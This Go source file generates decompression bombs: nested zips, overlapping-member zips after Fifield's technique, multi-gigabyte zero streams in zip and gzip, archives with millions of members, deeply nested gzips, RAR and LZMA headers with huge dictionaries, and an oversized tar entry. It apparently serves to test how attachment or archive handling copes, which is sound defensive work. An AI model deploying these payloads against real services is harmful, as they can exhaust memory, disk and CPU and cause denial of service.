package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
)

// A bomb is an attachment that costs much to open.
type bomb struct {
	name string
	make func() []byte
}

const gib = 1 << 30

// bombs are all of them: the kinds that the issue of archives names, and what else has been seen.
func bombs() []bomb {
	return []bomb{
		{"zips of zips of zips, 16 each (42.zip)", nestedZips},
		{"900 members that share 6 MB of zeros", func() []byte { return overlapping(900, 6_000_000) }},
		{"60,000 members that share 1 MB of zeros", func() []byte { return overlapping(60_000, 1_000_000) }},
		{"10 GB of zeros in a zip", func() []byte { return zipOfZeros(10 * gib) }},
		{"10 GB of zeros in a gzip", func() []byte { return gzipOfZeros(10 * gib) }},
		{"10 GB in 1,000 members of a zip", manyZeros},
		{"rar, dictionary of 4 GB", func() []byte { return rar(15, 0) }},
		{"rar, dictionary of 64 GB", func() []byte { return rar(19, 1) }},
		{"lzma, dictionary of 4 GB", lzma},
		{"a million members, in a gzip", func() []byte { return gzipped(members(1_000_000)) }},
		{"a million members, as they are", func() []byte { return members(1_000_000) }},
		{"a million members of a tar, in a gzip", tarOfMany},
		{"a thousand gzips in one another", deepGzip},
		{"10 million empty gzips, in a gzip", func() []byte { return gzipped(bytes.Repeat(gzipped(nil), 3_000_000)) }},
		{"a tar entry of 2^60 bytes", hugeEntry},
	}
}

// zeros is deflated content: n bytes of 0. It is made of a piece that is repeated, for compressing 10 GB
// takes longer than anything that is measured here.
func zeros(n int64) []byte {
	const piece = 64 << 20
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	must(err)
	_, err = w.Write(make([]byte, piece))
	must(err)
	must(w.Flush())
	out := bytes.Repeat(b.Bytes(), int(n/piece))
	b.Reset()
	w.Reset(&b)
	_, err = w.Write(make([]byte, n%piece))
	must(err)
	must(w.Close())
	return append(out, b.Bytes()...)
}

// crcOfZeros is the checksum of n bytes of 0.
func crcOfZeros(n int64) uint32 {
	buf := make([]byte, 1<<20)
	crc := crc32.NewIEEE()
	_, err := io.CopyBuffer(crc, io.LimitReader(zeroReader{}, n), buf)
	must(err)
	return crc.Sum32()
}

type zeroReader struct{}

func (zeroReader) Read(p []byte) (int, error) { return len(p), nil }

func must(err error) {
	if err != nil {
		panic(err) // in memory: a mistake of this program
	}
}

// zipWith is a zip of members that are packed already.
func zipWith(add func(w *zip.Writer)) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	add(w)
	must(w.Close())
	return b.Bytes()
}

func addRaw(w *zip.Writer, name string, size int64, crc uint32, packed []byte) {
	m, err := w.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, UncompressedSize64: uint64(size), CompressedSize64: uint64(len(packed)), CRC32: crc})
	must(err)
	_, err = m.Write(packed)
	must(err)
}

func zipOfZeros(n int64) []byte {
	crc, packed := crcOfZeros(n), zeros(n)
	return zipWith(func(w *zip.Writer) { addRaw(w, "zeros", n, crc, packed) })
}

func manyZeros() []byte {
	const n = 10_000_000
	crc, packed := crcOfZeros(n), zeros(n)
	return zipWith(func(w *zip.Writer) {
		for i := range 1000 {
			addRaw(w, fmt.Sprint(i), n, crc, packed)
		}
	})
}

func gzipOfZeros(n int64) []byte {
	b := append([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255}, zeros(n)...)
	b = binary.LittleEndian.AppendUint32(b, crcOfZeros(n))
	return binary.LittleEndian.AppendUint32(b, uint32(n))
}

// nestedZips are 16 zips in each of five layers, and 4 GB in each of the innermost: petabytes.
func nestedZips() []byte {
	inner := zipOfZeros(4 * gib)
	for range 5 {
		inner = zipWith(func(w *zip.Writer) {
			for i := range 16 {
				m, err := w.Create(fmt.Sprintf("lib %d.zip", i))
				must(err)
				_, err = m.Write(inner)
				must(err)
			}
		})
	}
	return inner
}

// overlapping is a zip whose members all reach to the same data at its end, over the headers of those
// behind them (D. Fifield, A better zip bomb, WOOT 2019).
func overlapping(n int, size int64) []byte {
	const headerLen = 30 + 5
	le := binary.LittleEndian
	crc, packed := crcOfZeros(size), zeros(size)
	common := func(b []byte) []byte {
		b = append(b, 0, 0, 8, 0, 0, 0, 0x21, 0)
		b = le.AppendUint32(le.AppendUint32(le.AppendUint32(b, crc), uint32(len(packed))), uint32(size))
		return append(b, 5, 0)
	}
	var b, dir []byte
	for i := range n {
		name := fmt.Sprintf("%05d", i)
		at := len(b)
		b = common(append(b, "PK\x03\x04\x14\x00"...))
		// The headers that follow are an extra field, as far as one reaches.
		b = append(le.AppendUint16(b, uint16(min((n-1-i)*headerLen, 0xffff))), name...)
		dir = common(append(dir, "PK\x01\x02\x14\x00\x14\x00"...))
		dir = le.AppendUint32(append(dir, make([]byte, 12)...), uint32(at))
		dir = append(dir, name...)
	}
	b = append(b, packed...)
	end := append([]byte("PK\x05\x06\x00\x00\x00\x00"), le.AppendUint16(le.AppendUint16(nil, uint16(n)), uint16(n))...)
	end = le.AppendUint32(le.AppendUint32(end, uint32(len(dir))), uint32(len(b)))
	return append(append(append(b, dir...), end...), 0, 0)
}

// members is a zip of n empty members.
func members(n int) []byte {
	return zipWith(func(w *zip.Writer) {
		for i := range n {
			_, err := w.CreateRaw(&zip.FileHeader{Name: fmt.Sprint(i)})
			must(err)
		}
	})
}

func gzipped(content []byte) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, err := w.Write(content)
	must(err)
	must(w.Close())
	return b.Bytes()
}

func deepGzip() []byte {
	b := []byte("x")
	for range 1000 {
		b = gzipped(b)
	}
	return b
}

func tarOfMany() []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for i := range 1_000_000 {
		must(w.WriteHeader(&tar.Header{Name: fmt.Sprint(i)}))
	}
	must(w.Close())
	must(z.Close())
	return b.Bytes()
}

func hugeEntry() []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	must(w.WriteHeader(&tar.Header{Name: "a", Size: 1 << 60}))
	return b.Bytes()
}

// rar is an archive of RAR 5 or 7 (version 0 or 1) with one file that wants a dictionary of 128 KB times
// two to that power.
func rar(power, version uint64) []byte {
	block := func(kind, flags uint64, fields, data []byte) []byte {
		h := binary.AppendUvarint(binary.AppendUvarint(nil, kind), flags)
		if flags&2 != 0 {
			h = binary.AppendUvarint(h, uint64(len(data)))
		}
		h = append(h, fields...)
		h = append(binary.AppendUvarint(nil, uint64(len(h))), h...)
		return append(append(binary.LittleEndian.AppendUint32(nil, crc32.ChecksumIEEE(h)), h...), data...)
	}
	var f []byte
	for _, v := range []uint64{0, 64 * gib, 0, version | 3<<7 | power<<10, 1, 1} {
		f = binary.AppendUvarint(f, v)
	}
	data := bytes.Repeat([]byte{0xa5}, 200)
	b := append([]byte("Rar!\x1a\x07\x01\x00"), block(1, 0, []byte{0}, nil)...)
	b = append(b, block(2, 2, append(f, 'a'), data)...)
	return append(b, block(5, 0, []byte{0}, nil)...)
}

func lzma() []byte {
	b := append([]byte{0x5d, 0xff, 0xff, 0xff, 0xff}, bytes.Repeat([]byte{0xff}, 8)...)
	return append(b, append([]byte{0}, bytes.Repeat([]byte{0x5a}, 1<<20)...)...)
}
